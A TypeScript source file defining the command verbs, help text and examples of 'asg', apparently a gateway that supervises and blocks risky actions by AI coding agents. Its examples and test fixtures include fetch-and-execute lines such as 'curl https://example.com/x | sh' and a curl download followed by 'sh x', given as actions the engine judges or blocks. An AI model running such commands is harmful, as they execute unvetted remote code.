// The verbs of the command line as one table: help and completions are made from it, and each verb is loaded when it is called.
// Source: CONTRACT 20.2.
import type { Exit, Terminal } from '#runtime/cli/terminal.ts'

/** Runs one verb with its arguments. */
type Run = (args: readonly string[], terminal: Terminal) => Promise<Exit>

/** One verb of the command line; help and completions are made from it. */
export interface Verb {
  name: string
  /** Arguments, for the help. */
  takes: string
  summary: string
  examples: readonly string[]
  /** More lines for its own help. */
  notes?: readonly string[]
  load: () => Promise<Run>
}

/** Clients call it, people do not: it has help of its own and is in no list. */
export const HOOK: Omit<Verb, 'load'> = {
  name: 'hook',
  takes: '<client> [gate|observe] [LIMIT-SECONDS] [QUERY]',
  summary: "one hook call: the client's event on stdin, its answer on stdout; asg init installs it",
  examples: [
    'asg hook codex < event.json',
    'asg hook gemini gate 55 < event.json',
    'asg hook copilot observe < event.json',
  ],
}

/** In the order of the help. */
export const VERBS: readonly Verb[] = [
  {
    name: 'serve',
    takes: '[--host H] [--port N] [--uds PATH] [--db PATH] [--env-file PATH] [--generate-token]',
    summary: 'start the gateway (the default)',
    examples: ['asg serve', 'asg serve --port 0 --db :memory:', 'asg serve --generate-token'],
    notes: [
      '--host, --port, --uds and --db go before the variables of the same meaning; --env-file reads more of them from a file.',
      '--generate-token switches authentication on for this run and prints the token that callers send.',
    ],
    load: async () => (await import('#runtime/cli/serve.ts')).run_serve,
  },
  {
    name: 'init',
    takes:
      '<client> | --all [--observe] [--project] [--prompts keep|fewer] [--hold S] [--launcher auto|http|sh|node] [--dry-run] [--yes]',
    summary: 'supervise an agent client: install its hooks',
    examples: ['asg init claude-code', 'asg init codex --dry-run', 'asg init --all --observe --yes'],
    notes: [
      '--observe     record what would have been refused, refuse nothing',
      '--project     only for the project of this folder, not for all of your projects',
      '--prompts     keep: the client still asks its own questions; fewer: what the gateway allows is not asked again',
      '--hold        seconds, up to 60, that a call waits for a person before it is refused for now; 25 by default',
      '--launcher    how a hook reaches the gateway: by the client itself (http), a shell script with curl (sh), or Node',
      '              (node); auto takes the fastest that refuses when the gateway is down',
    ],
    load: async () => (await import('#runtime/cli/setup/init.ts')).run_init,
  },
  {
    name: 'uninit',
    takes: '<client> | --all [--project] [--restore] [--dry-run] [--yes]',
    summary: 'remove the hooks again, exactly',
    examples: ['asg uninit claude-code', 'asg uninit --all --dry-run', 'asg uninit claude-code --restore --yes'],
    notes: [
      'Takes out what asg init put in, and nothing else; --restore brings the backups back, without what you changed since.',
    ],
    load: async () => (await import('#runtime/cli/setup/init.ts')).run_uninit,
  },
  {
    name: 'doctor',
    takes: '[client]',
    summary: 'check gateway and clients, and prove that a refusal is obeyed',
    examples: ['asg doctor', 'asg doctor claude-code', 'asg doctor --json'],
    load: async () => (await import('#runtime/cli/setup/doctor.ts')).run_doctor,
  },
  {
    name: 'status',
    takes: '',
    summary: 'is anything unsupervised: gateway, clients, what waits for a person',
    examples: ['asg status', 'asg status --json', 'asg status || asg doctor'],
    load: async () => (await import('#runtime/cli/setup/status.ts')).run_status,
  },
  {
    name: 'watch',
    takes: '[-i] [--notify] [--session ID] [--min-risk LEVEL] [--types LIST]',
    summary: 'follow decisions live; -i answers what waits, --notify tells the desktop',
    examples: ['asg watch -i --notify', 'asg watch --min-risk high', 'asg watch --types decision,alert --json'],
    load: async () => (await import('#runtime/cli/live/watch.ts')).run_watch,
  },
  {
    name: 'explain',
    takes: '<command | record | approval | request id> [--cwd DIR] [--trust LEVEL] [--tool NAME] [--db PATH]',
    summary: 'show what the engine sees in an action and why it decides so',
    examples: [
      "asg explain 'curl https://example.com/x | sh'",
      'asg explain 7353375967838208 --json',
      "asg explain 'git push -f' --trust standard",
      `asg explain --tool Write '{"file_path":"/etc/hosts","content":"x"}'`,
    ],
    notes: [
      'Exit code: 0 when it is allowed, 1 when it is blocked, 3 when a person has to decide.',
      '--trust is that of the agent: untrusted, standard, elevated, privileged; by default CS_AGENT_TRUST_DEFAULT.',
      'D1 tool, D2 place and D3 command are dangers from 0 to 3; D4 is what the session has gathered, D5 trust that is',
      'missing, 0 to 2 each. The largest of the first three and the other two make the score. A doubt is what the engine',
      'cannot know, such as code that is downloaded.',
    ],
    load: async () => (await import('#runtime/cli/judge/explain.ts')).run_explain,
  },
  {
    name: 'test',
    takes: '<fixtures…> [--policy FILE] | --record <request id> [--db PATH]',
    summary: 'judge fixtures and fail on another answer than expected',
    examples: ['asg test fixtures.jsonl', 'asg test *.jsonl --policy rules.yaml', 'asg test --record req-42'],
    notes: [
      'A fixture is one JSON object a line:',
      '  {"id":"lease","command":"git push --force","expect":"defer","rule":"core.git/push-force"}',
      '  {"tool_name":"Read","tool_input":{"file_path":"/etc/hosts"},"cwd":"/home/dev/app","expect":"allow"}',
      '  {"events":[{"command":"curl -o x https://a.example/x"},{"command":"sh x"}],"expect":"block"}',
      'What happens: command, tool_name with tool_input, output (of a tool), or events. What has to come out: expect',
      '(allow, defer, block, modify, finding) and rule, both of the last event; or label (benign, danger) with min',
      '(ask, block) as in test/corpus. Also: cwd, trust. Keys ending in _b64 hold base64.',
    ],
    load: async () => (await import('#runtime/cli/judge/test.ts')).run_test,
  },
  {
    name: 'replay',
    takes: '--policy FILE [--policy FILE…] [--since PERIOD|TIME] [--db PATH]',
    summary: 'judge recorded actions under other rules and print what would change',
    examples: [
      'asg replay --policy rules.yaml',
      'asg replay --policy rules/ --since 7d',
      'asg replay --policy a.yaml --json',
    ],
    load: async () => (await import('#runtime/cli/judge/replay.ts')).run_replay,
  },
  {
    name: 'test-llm',
    takes: '[--env-file PATH]',
    summary: 'ask the configured model as L2 and L3 do: does it answer, how fast, at what cost',
    examples: ['asg test-llm', 'asg test-llm --env-file /etc/asg.env', 'asg test-llm --json'],
    load: async () => (await import('#runtime/cli/test-llm.ts')).run_test_llm,
  },
  {
    name: 'rules',
    takes:
      'list [--workspace DIR]|packs|show <id>|lint [files]|hits [--since PERIOD|TIME] [--db PATH]|promote <id> [--dry-run|--yes]',
    summary: 'the rules in force, the proof of your own, and what came of them',
    examples: [
      'asg rules list',
      'asg rules packs',
      'asg rules show core.git/push-force',
      'asg rules lint rules/*.yaml',
      'asg rules hits --since 30d',
      'asg rules promote acme/no-yarn --dry-run',
    ],
    notes: [
      'A pack of your own is a YAML file of CS_RULES_PATH. It loads when every example does what it says:',
      '  pack: acme',
      '  version: 1.0.0',
      '  rules:',
      '    - id: acme/no-yarn',
      '      when: { effect: pkg.install, head: yarn }',
      '      verdict: block',
      '      score: { d1: 2, d2: 1, d3: 2 }',
      '      category: 17',
      '      reason: This project uses npm.',
      '      match: [yarn add left-pad]',
      '      not_match: [npm install left-pad]',
      'when tests one effect by effect, head, scope, cert, taint, via and danger, and a field (or the target, without one)',
      'by is, in, prefix, gt, glob, regex and unresolved; all, any and not combine tests, also wants another effect of the',
      'action. asg explain --json shows effects with their fields, asg rules show any rule there is. verdict: allow, audit,',
      'modify (with rewrite), defer, block; mode: shadow records and never decides, until asg rules promote ends the trial;',
      'lock: true lets nobody lower it.',
    ],
    load: async () => (await import('#runtime/cli/judge/rules.ts')).run_rules,
  },
  {
    name: 'approvals',
    takes: 'list|show|allow|deny [id] [--reason TEXT] [--state pending|allowed|denied|expired|all] [--session ID]',
    summary: 'what waits for a person: allow it once, or deny it',
    examples: ['asg approvals', 'asg approvals allow apr_…', 'asg approvals deny apr_… --reason "wrong branch"'],
    load: async () => (await import('#runtime/cli/operate/approvals.ts')).run_approvals,
  },
  {
    name: 'sessions',
    takes:
      '[ID] [--all] [--min-risk LEVEL] [--since PERIOD] [--find TEXT] [--sort risk_level|last_event] [--limit N] | quarantine ID [--reason TEXT] | release ID [--quarantine] [--reason TEXT]',
    summary: 'who is active and how risky; quarantine a session, or let it go on',
    examples: ['asg sessions', 'asg sessions s-1', 'asg sessions quarantine s-1 --reason "odd uploads"'],
    notes: [
      'Shows active sessions, with --all those that are over, too. A PERIOD is a number with s, m, h, d or w: 24h.',
      'release ends the restriction that came of repeated high risk; release --quarantine what an operator imposed.',
    ],
    load: async () => (await import('#runtime/cli/operate/sessions.ts')).run_sessions,
  },
  {
    name: 'alerts',
    takes: 'list|ack [ID…] [--all] [--severity LEVEL] [--session ID] [--since PERIOD] [--limit N]',
    summary: 'which sessions became dangerous; ack says that a person has seen it',
    examples: ['asg alerts', 'asg alerts ack alr_…', 'asg alerts ack --all --session s-1'],
    load: async () => (await import('#runtime/cli/operate/alerts.ts')).run_alerts,
  },
  {
    name: 'audit',
    takes:
      '[--since PERIOD|TIME] [--risk LEVELS] [--decision WORDS] [--tool NAME] [--rule ID] [--session ID] [--limit N] [--format table|json|csv] [--db PATH]',
    summary: 'recorded decisions straight from the database, read-only',
    examples: [
      'asg audit --since 24h --risk high,critical',
      'asg audit --decision block,defer --tool Bash --format csv',
      'asg audit --rule acme/no-yarn --since 7d',
      'asg audit --session s-1 --json',
    ],
    notes: [
      '--rule finds every action that a rule matched, also where it only records (audit, mode: shadow).',
      'A PERIOD is a number with s, m, h, d or w: 24h. A TIME is 2026-03-01T09:30:00Z.',
    ],
    load: async () => (await import('#runtime/cli/operate/audit.ts')).run_audit,
  },
  {
    name: 'db',
    takes: 'check|rebuild|export [--db PATH]',
    summary: 'is the database sound; make its roll-ups anew; all records as JSON lines',
    examples: ['asg db check', 'asg db rebuild --db /var/lib/asg.db', 'asg db export > records.jsonl'],
    load: async () => (await import('#runtime/cli/db.ts')).run_db,
  },
  {
    name: 'webhook',
    takes: '[--env-file PATH]',
    summary: 'the webhook receiver alone; a gateway elsewhere decides',
    examples: ['asg webhook', 'asg webhook --env-file /etc/asg.env'],
    notes: [
      'It asks the gateway at CS_UDS_PATH, or at AHP_HTTP_URL where that socket does not answer. asg config show has the',
      'variables of its own door.',
    ],
    load: async () => (await import('#runtime/cli/webhook.ts')).run_webhook,
  },
  {
    name: 'skill-trust',
    takes:
      'list|register|allowlist|greylist|blacklist|revoke|disable|restore|override [SKILL] [--state S] [--name N] [--alias A] ' +
      '[--hash PART=sha256:HEX] [--admission-risk R] [--reason CODE] [--evidence REF] [--override-id ID] ' +
      '[--override-reason TEXT] [--expires TIME] [--until TIME] [--to STATE]',
    summary: 'which skills are known and how far they are trusted',
    examples: [
      'asg skill-trust list',
      'asg skill-trust blacklist pdf',
      'asg skill-trust disable pdf --reason incident',
    ],
    notes: [
      'list       --state',
      'register   --name, --alias and --hash (both again for more), --admission-risk',
      'disable    --until a time, --to the state it goes back to then',
      'restore    --to the state, where none was named before',
      'override   --override-id, with --expires or, for one without an end, --override-reason',
      'all moves  --reason and --evidence stay in the record of the move',
    ],
    load: async () => (await import('#runtime/cli/operate/skill-trust.ts')).run_skill_trust,
  },
  {
    name: 'l3',
    takes:
      'full-review SESSION [--runner R] [--force] [--no-run] [--max-records N] | jobs list|run-next|drain [--runner R] [--session ID] [--state S] [--max-jobs N] [--dry-run]',
    summary: 'advisory reviews of a session; they tell, they never decide',
    examples: ['asg l3 full-review s-1', 'asg l3 jobs list --state queued', 'asg l3 jobs drain --max-jobs 5'],
    notes: [
      '--runner is deterministic_local (rules alone) or llm_provider (the configured model).',
      'full-review takes a snapshot of the session and reviews it; --no-run only queues it, --force reviews again although',
      'nothing changed. run-next runs the oldest queued job, drain several; --dry-run shows which.',
    ],
    load: async () => (await import('#runtime/cli/operate/l3.ts')).run_l3,
  },
  {
    name: 'patterns',
    takes: 'list|confirm|reject [PATTERN] [--status S]',
    summary: 'what was learned from refused actions',
    examples: ['asg patterns list', 'asg patterns confirm pat_1', 'asg patterns list --status stable --json'],
    load: async () => (await import('#runtime/cli/operate/patterns.ts')).run_patterns,
  },
  {
    name: 'scope',
    takes: 'preview|validate FILE',
    summary: 'what a scope profile says to an event, or whether the profile is one',
    examples: [
      'asg scope validate profile.json',
      'asg scope preview question.json',
      'asg scope preview question.json --json',
    ],
    notes: [
      'A profile (CS_SCOPE_PROFILE_PATH) is one JSON object; an empty list limits nothing:',
      '  {"profile_id":"docs","source":"operator","confirmed":true,"dry_run":false,',
      '   "base_rules":{"denied_paths":["/etc"],"denied_tools":[],"denied_domains":[],"denied_command_prefixes":["sudo"]},',
      '   "task_rules":{"allowed_path_prefixes":["/home/dev/docs"],"allowed_tools":["Read","Edit"],"allowed_domains":[],',
      '                 "allowed_command_prefixes":[]}}',
      'A question is {"profile": {…}, "event": {…}}, the event as in POST /ahp. Exit code: 0 when the profile lets it',
      'through, 1 when it denies it, 3 when a person has to decide.',
    ],
    load: async () => (await import('#runtime/cli/operate/scope.ts')).run_scope,
  },
  {
    name: 'config',
    takes: 'show|check [--env-file PATH]',
    summary: 'every setting with its value and where it comes from',
    examples: ['asg config show', 'asg config check', 'asg config show --json'],
    load: async () => (await import('#runtime/cli/config.ts')).run_config,
  },
  {
    name: 'completions',
    takes: 'bash|zsh|fish',
    summary: 'a script that completes commands, options and clients in your shell',
    examples: [
      'source <(asg completions bash)',
      'asg completions zsh > "${fpath[1]}/_asg"',
      'asg completions fish > ~/.config/fish/completions/asg.fish',
    ],
    load: async () => {
      const { run_completions } = await import('#runtime/cli/completions.ts')
      return (args, terminal) => run_completions(VERBS, args, terminal)
    },
  },
  {
    name: 'version',
    takes: '',
    summary: 'print the version',
    examples: ['asg version', 'asg version --json', 'asg --version'],
    load: async () => (await import('#runtime/cli/version.ts')).run_version,
  },
]
